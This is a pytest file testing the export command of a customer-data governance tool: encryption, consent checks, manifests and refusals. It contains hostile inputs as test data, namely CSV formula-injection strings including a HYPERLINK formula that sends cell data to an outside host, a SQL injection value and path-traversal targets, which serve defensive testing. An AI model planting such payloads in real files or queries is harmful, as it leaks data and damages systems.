"""Exports: to whom, where, in which form; what they hold, and what they leave behind."""

import csv
import hashlib
import io
import json
import resource
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pyarrow.parquet
import pyrage
import pytest

from governance import inbox
from governance.identity import stores
from governance.policy.load import load_policy, policy_hash
from tests.support.installation import (
    IN_THE_FIRST_BLOCK,
    Done,
    Installation,
    own_feeds,
    policy_with,
)
from warehouse.connect import connected, published_store
from warehouse.home import PROJECT

IDENTITY = pyrage.x25519.Identity.generate()
WITH_KEY = "country: US\n    purposes: [segmentation]"
EARLIER, LATE = "2024-12-31T05:00:00+00:00", "2024-12-31T09:00:00+00:00"
REFUSALS = {"recipient.unlisted", "recipient.purpose", "recipient.public_key", "purpose.unknown",
            "segment.unknown"}  # fmt: skip
KEYED = f"country: US\n    public_key: {IDENTITY.to_public()}\n    purposes: [segmentation]"


@pytest.fixture(scope="module")
def one(small, tmp_path_factory) -> Installation:
    folder = tmp_path_factory.mktemp("export")
    return small.copy(folder / "home", policy=policy_with(folder, (WITH_KEY, KEYED)))


@pytest.fixture
def export(one, tmp_path) -> Callable[..., Done]:
    def asked(name: str = "audience.csv", *more: str, **changes: str) -> Done:
        given = {"segment": "1", "purpose": "segmentation", "recipient": "store_planning"} | changes
        return one.assent(
            "export", given["segment"], "--purpose", given["purpose"],
            "--recipient", given["recipient"], "--to", str(tmp_path / name), "--json", *more,
        )  # fmt: skip

    return asked


def members(one: Installation, segment: int = 1) -> set[str]:
    return {customer for customer, number in one.members().items() if number == segment}


def in_clear(one: Installation, to: Path, **variables: str) -> Done:
    return one.assent("export", "1", "--purpose", "segmentation", "--recipient", "store_planning",
                      "--to", str(to), "--unencrypted", "--json", **variables)  # fmt: skip


def ids(content: bytes) -> list[str]:
    return [row["customer_id"] for row in csv.DictReader(io.StringIO(content.decode()))]


def test_by_default_it_is_encrypted_to_the_recipient(one, export, tmp_path):
    done = export()
    assert done.status == 0, done.said
    assert [path.name for path in tmp_path.iterdir()] == ["audience.csv.age"]
    sealed = (tmp_path / "audience.csv.age").read_bytes()
    assert sealed.startswith(b"age-encryption.org/v1")
    somebody = min(members(one))
    assert somebody.encode() not in sealed
    found = ids(pyrage.decrypt(sealed, [IDENTITY]))
    assert set(found) == members(one)
    assert len(found) == len(set(found)) == done.json["exported"]
    with pytest.raises(pyrage.DecryptError):
        pyrage.decrypt(sealed, [pyrage.x25519.Identity.generate()])
    assert (tmp_path / "audience.csv.age").stat().st_mode & 0o777 == 0o600


def test_parquet_and_the_name_of_a_segment_do_as_well(one, export, tmp_path):
    with one.published("segmentation") as connection:
        (name,) = connection.execute("select name from segments where segment_id = 2").fetchone()
    done = export("audience.parquet", "--unencrypted", segment=name)
    assert done.status == 0, done.said
    table = pyarrow.parquet.read_table(tmp_path / "audience.parquet")
    assert table.column_names == ["customer_id"]
    assert set(table["customer_id"].to_pylist()) == members(one, 2)


def test_a_recipient_gets_the_identifiers_that_it_is_listed_for(one, export, tmp_path):
    done = export("offers.csv", "--unencrypted", recipient="offers_partner",
                  purpose="personalised_offers")  # fmt: skip
    assert done.status == 0, done.said
    rows = list(csv.DictReader((tmp_path / "offers.csv").read_text().splitlines()))
    assert set(rows[0]) == {"full_name", "postal_address"}
    assert all(row["full_name"].startswith("Person ") for row in rows)
    # Whoever may be segmented but not be sent offers is held back, with the reason.
    assert len(rows) == done.json["exported"] < done.json["members"]
    assert sum(done.json["held_back"].values()) == done.json["members"] - done.json["exported"]
    assert all(why.startswith("personalised_offers: ") for why in done.json["held_back"])


def test_a_name_in_a_csv_is_no_formula(small, tmp_path):
    """It would run in the recipient's spreadsheet."""
    one = small.copy(tmp_path / "home")
    with one.entered(), connected(*stores()) as connection:
        formulas = [
            '=HYPERLINK("http://example.org?"&A1)', "\t=1+1", "-2+3", "@SUM(A1)", "+1 555 0100",
            "\n=1+1", "\r=1+1", "\uff1d1+1", "\uff0b1", "\uff0d2+3", "\uff20SUM(A1)",
            "Anna Example",
        ]  # fmt: skip
        connection.execute(
            "update vault.identifiers set full_name = ($1::varchar[])[(1 + n % len($1))::int]"
            " from (select subject_key as who, row_number() over (order by customer_id) as n"
            " from vault.subjects) where subject_key = who",
            [formulas],
        )  # by customer, so that each formula is exported whatever the keys are
    asked = ("export", "1", "--purpose", "personalised_offers", "--recipient", "offers_partner",
             "--unencrypted", "--json", "--to")  # fmt: skip
    done = one.assent(*asked, str(tmp_path / "audience.csv"))
    assert done.status == 0, done.said
    names = [
        row["full_name"] for row in csv.DictReader((tmp_path / "audience.csv").open(newline=""))
    ]
    marked = [name for name in names if name.startswith("'")]
    begin = {formula[0] for formula in formulas} - {"A"}
    assert not [name for name in names if name[0] in begin]
    # Parquet has types, so a text is one there.
    done_parquet = one.assent(*asked, str(tmp_path / "audience.parquet"))
    plain = pyarrow.parquet.read_table(tmp_path / "audience.parquet")["full_name"].to_pylist()
    assert [name.removeprefix("'") for name in names] == plain
    assert {name[:2] for name in marked} == {f"'{sign}" for sign in begin}
    assert done.json["apostrophes"] == len(marked) < len(names)
    assert done_parquet.json["apostrophes"] == 0


def test_a_member_of_whom_no_permission_is_known_is_held_back(small, tmp_path):
    one = small.copy(tmp_path / "home")
    who = min(members(one))
    with (
        one.entered(),
        connected(published_store("permission", read_only=False), *stores()) as connection,
    ):
        connection.execute(
            "delete from published.subjects where subject_key ="
            " (select subject_key from vault.subjects where customer_id = ?)",
            [who],
        )
    to = tmp_path / "audience.csv"
    done = in_clear(one, to)
    assert done.status == 0, done.said
    assert done.json["held_back"] == {"segmentation: unknown subject": 1}
    assert set(ids(to.read_bytes())) == members(one) - {who}


def test_it_leaves_a_manifest_and_one_act(one, export, tmp_path):
    acts = len(one.acts())
    done = export()
    (path,) = [p for p in one.home.releases.iterdir() if p.stem == done.json["release_id"]]
    manifest = json.loads(path.read_text())
    assert manifest == done.json
    sealed = (tmp_path / "audience.csv.age").read_bytes()
    assert manifest["file_sha256"] == hashlib.sha256(sealed).hexdigest()
    assert manifest | {
        "purpose": "segmentation", "recipient": "store_planning", "role": "controller",
        "country": "US", "columns": ["customer_id"], "encrypted": True, "held_back": {},
        "apostrophes": 0,
        "at": "2024-12-31T05:00:00+00:00", "clock": "set",
        "judged_at": "2024-12-31T05:00:00+00:00", "policy_hash": policy_hash(one.policy),
    } == manifest  # fmt: skip
    assert manifest["actor"]
    assert manifest["members"] == manifest["exported"] == len(members(one))
    assert not [who for who in members(one) if who in path.read_text()]
    (act,) = one.acts()[acts:]
    assert act["act"] == "export"
    assert act["release_id"] == manifest["release_id"]
    assert act["clock"] == "set"
    assert act["keys"] == [
        "inbox",
        "kept",
        "published_permission",
        "published_segmentation",
        "salts",
        "vault",
    ]


@pytest.mark.slow
def test_a_clock_that_is_behind_forgets_no_denial(small, tmp_path):
    """Neither one that waits in the inbox nor one that a run has landed."""
    one = own_feeds(small.copy(tmp_path / "home"), tmp_path / "feeds")
    first, second = sorted(members(one))[:2]

    def withdraw(who: str, at: str) -> None:
        assert one.assent("consent", "record", who, "withdrawn", ASSENT_NOW=at).status == 0

    def exported(name: str) -> tuple[Done, set[str]]:
        done = in_clear(one, tmp_path / name, ASSENT_NOW=EARLIER)
        assert done.status == 0, done.said
        return done, set(ids((tmp_path / name).read_bytes()))

    _, before = exported("before.csv")
    assert {first, second} <= before  # positive control
    withdraw(first, LATE)
    waits, found = exported("waits.csv")
    assert before - found == {first}
    assert (waits.json["at"], waits.json["judged_at"]) == (EARLIER, LATE)
    shown = one.assent("consent", "show", first, "--json", ASSENT_NOW=EARLIER).json
    assert not any(state["permitted"] for state in shown)
    assert one.assent("explain", first, "--json", ASSENT_NOW=EARLIER).json["segment"] is None
    assert one.assent("run", "--select", "key:landing/clocks", ASSENT_NOW=LATE).status == 0
    with one.entered():
        assert not inbox.waiting().by_feed
    landed, found = exported("landed.csv")
    assert before - found == {first}
    assert (landed.json["at"], landed.json["judged_at"]) == (EARLIER, LATE)
    withdraw(second, EARLIER)  # the clock is behind here, too, and this denial counts none the less
    both, found = exported("both.csv")
    assert before - found == {first, second}
    assert both.json["held_back"] == {"segmentation: withdrawn": 1}  # the first is no member now
    # It lands, though it counts as of a moment that hasn't come by this clock.
    assert one.assent("run", "--select", "key:landing/clocks", ASSENT_NOW=EARLIER).status == 0
    with one.entered():
        assert not inbox.waiting().by_feed
    assert one.assent("quarantine", "list", "--json", ASSENT_NOW=EARLIER).json == []
    states = one.assent("consent", "show", second, "--json", ASSENT_NOW=EARLIER).json
    assert {s["purpose"]: s["rule"] for s in states}["segmentation"] == "withdrawn"


def test_a_segment_that_has_become_too_small_is_not_exported(small, tmp_path):
    """As when those who withdrew were taken out of what is published, and no run came after."""
    one = small.copy(tmp_path / "home")
    smallest = load_policy(one.policy).thresholds.smallest_segment
    for left, status in ((smallest, 0), (smallest - 1, 1)):
        with one.entered(), connected(published_store("segmentation", read_only=False)) as opened:
            opened.execute(
                "delete from published.assignments where segment_id = 1 and segmentation_key not in"
                " (select segmentation_key from published.assignments where segment_id = 1"
                "  and as_of = (select max(as_of) from published.assignments) limit ?)",
                [left],
            )
        done = in_clear(one, tmp_path / f"{left}.csv")
        assert done.status == status, done.said
        assert (tmp_path / f"{left}.csv").exists() is (status == 0)
    assert f"fewer than {smallest} members left" in done.err
    assert "`assent run`" in done.err
    assert one.acts()[-1]["refused"] == "size.segmentation"
    # An override that is on record counts to the end of its day, whatever day the segments are of.
    override = (
        "overrides: [{rule: size.segmentation, reason: It is known, approved_by: A. Officer,"
        " until: 2025-03-31}]"
    )
    excused = replace(one, policy=policy_with(tmp_path, ("overrides: []", override)))
    for now, status in (("2025-03-31T12:00:00Z", 0), ("2025-04-02T12:00:00Z", 1)):
        done = in_clear(excused, tmp_path / f"{status}.csv", ASSENT_NOW=now)
        assert done.status == status, done.said
    assert one.acts()[-1]["refused"] == "size.segmentation"


def test_a_damaged_file_is_named_with_its_remedy(small, tmp_path):
    """One bit of it is other than it was written; DuckDB doesn't say of which file."""
    one = small.copy(tmp_path / "home")
    home = one.home
    files = {
        home.published_file("segmentation"): "`assent run` writes published files anew",
        home.published_file("permission"): "`assent run` writes published files anew",
        home.vault: "restore it from a backup",
        home.salts: "restore it from a backup",
    }
    for path, mend in files.items():
        whole = path.read_bytes()
        flipped = bytearray(whole)
        flipped[IN_THE_FIRST_BLOCK] ^= 1
        path.write_bytes(flipped)
        done = in_clear(one, tmp_path / "audience.csv")
        assert done.status == 2
        assert done.err == f"assent: {path.name} is damaged\n  -> {mend}\n"
        assert one.acts()[-1]["refused"] == "damaged"
        path.write_bytes(whole)
    assert in_clear(one, tmp_path / "audience.csv").status == 0


@pytest.mark.parametrize(
    ("changes", "status", "said"),
    [
        ({"recipient": "anybody"}, 1, "is not listed"),
        ({"recipient": "store_plannin"}, 1, "store_planning"),  # the nearest one
        ({"purpose": "churn_prevention"}, 1, "doesn't let"),
        ({"purpose": "resale"}, 2, "no such purpose"),
        ({"recipient": "offers_partner", "purpose": "personalised_offers"}, 2, "public key"),
        ({"segment": "99"}, 2, "no such published segment"),
        ({"segment": "99; drop table segments"}, 2, "no such published segment"),
    ],
)
def test_what_the_policy_does_not_allow_is_refused(one, export, tmp_path, changes, status, said):
    before = len(one.acts()), len(list(one.home.releases.iterdir()))
    done = export(**changes)
    assert (done.status, done.out) == (status, "")
    assert said in done.err
    assert "Traceback" not in done.err
    assert not list(tmp_path.iterdir())
    assert len(list(one.home.releases.iterdir())) == before[1]
    (act,) = one.acts()[before[0] :]
    assert act["act"] == "export"
    assert act["refused"] in REFUSALS
    typed = {"anybody", "store_plannin", "resale", "99", "99; drop table segments"}
    assert not typed & {str(value) for value in act.values()}


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("{home}/audience.csv", "ASSENT_HOME"),
        ("{home}/releases/../audience.csv", "ASSENT_HOME"),
        ("{link}/audience.csv", "ASSENT_HOME"),
        ("{keys}/audience.csv", "the keys"),
        ("{project}/docs/audience.csv", "the project"),
        ("nowhere/audience.csv", "no folder"),
        ("audience.txt", "audience.txt"),
        ("there.csv", "exists already"),
        pytest.param(f"{'n' * 252}.csv", "can't be written", id="too long"),
    ],
)
def test_where_it_does_not_belong_it_is_refused(one, export, tmp_path, name, said):
    (tmp_path / "link").symlink_to(one.root)
    (tmp_path / "there.csv").write_text("kept")
    (tmp_path / "there.csv.age").write_text("kept")
    target = name.format(home=one.root, link=tmp_path / "link", keys=one.keys, project=PROJECT)
    for more in ((), ("--unencrypted",)):
        done = export(target, *more)
        assert done.status == 2
        assert said in done.err
        assert "fault of ours" not in done.err
        assert one.acts()[-1]["refused"] == "target"
    assert not list(one.root.rglob("audience.csv*"))
    assert (
        (tmp_path / "there.csv").read_text() == (tmp_path / "there.csv.age").read_text() == "kept"
    )


def test_no_file_leaves_without_its_manifest_and_its_act(small, tmp_path):
    """Whatever fails, and however late."""
    one = small.copy(tmp_path / "home")
    folder = tmp_path / "out"
    folder.mkdir()

    def refused(saying: str) -> None:
        done = in_clear(one, folder / "audience.csv")
        assert (done.status, done.out) == (2, "")
        assert saying in done.err
        assert not list(folder.iterdir())

    feeds = one.home.evidence / "feeds.json"
    whole = feeds.read_text()
    feeds.write_text(whole[: len(whole) // 2])
    refused("isn't whole")  # so nobody can tell whether it has a label
    feeds.write_text(whole)

    one.home.releases.rmdir()
    one.home.releases.write_text("no folder, so no manifest can be written")
    refused("a folder")
    one.home.releases.unlink()

    record = one.home.audit / "acts.jsonl"
    acts = record.read_bytes()
    assert len(acts.splitlines()) == 1  # the second failed before any record
    record.write_bytes(acts + b" " * 1_000_000)  # so that nothing else comes up to the limit
    limit = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (len(acts) + 1_000_020, limit[1]))
    try:
        refused("no room")
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, limit)
    assert not list(one.home.releases.iterdir())
    record.write_bytes(acts)

    assert in_clear(one, folder / "audience.csv").status == 0
    assert len(list(one.home.releases.iterdir())) == len(list(folder.iterdir())) == 1


def test_nothing_published_nothing_exported(one, tmp_path):
    empty = Installation(tmp_path / "home", sources=one.sources)
    done = empty.assent("export", "1", "--purpose", "segmentation", "--recipient", "store_planning",
                        "--to", str(tmp_path / "a.csv"), "--unencrypted")  # fmt: skip
    assert done.status == 2
    assert "assent run" in done.err
    assert not Path(tmp_path / "a.csv").exists()
